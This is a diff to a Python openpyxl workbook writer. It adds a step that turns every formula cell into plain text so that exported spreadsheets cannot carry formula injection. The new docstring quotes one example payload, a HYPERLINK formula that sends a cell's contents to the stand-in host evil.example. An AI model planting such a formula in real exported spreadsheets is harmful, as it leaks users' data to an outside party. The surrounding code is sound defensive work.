@@ -1,7 +1,14 @@
-"""Write named sheets of rows as an .xlsx workbook with openpyxl."""
+"""Write named sheets of rows as an .xlsx workbook with openpyxl; every workbook the service
+makes is saved through ``save_workbook``, so no cell is ever a formula.
+
+openpyxl stores any string starting with ``=`` as a formula. A remedial action typed as
+``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` would become a live link that leaks
+the sheet, so every formula cell is turned back into the text it came from.
+"""
 
 from __future__ import annotations
 
+import io
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from datetime import date
@@ -47,7 +54,27 @@ def write_xlsx(sheets: Sequence[Sheet], out: Path | IO[bytes]) -> None:
             sheet.column_dimensions[_letter(c)].width = width
         if spec.freeze_header:
             sheet.freeze_panes = "A2"
-    book.save(out)
+    save_workbook(book, out)
+
+
+def text_only(book: Workbook) -> Workbook:
+    """Every formula cell of ``book`` becomes the text it was written from."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
+    return book
+
+
+def save_workbook(book: Workbook, out: Path | IO[bytes]) -> None:
+    text_only(book).save(out)
+
+
+def workbook_bytes(book: Workbook) -> bytes:
+    buffer = io.BytesIO()
+    save_workbook(book, buffer)
+    return buffer.getvalue()
 
 
 def _letter(index: int) -> str:
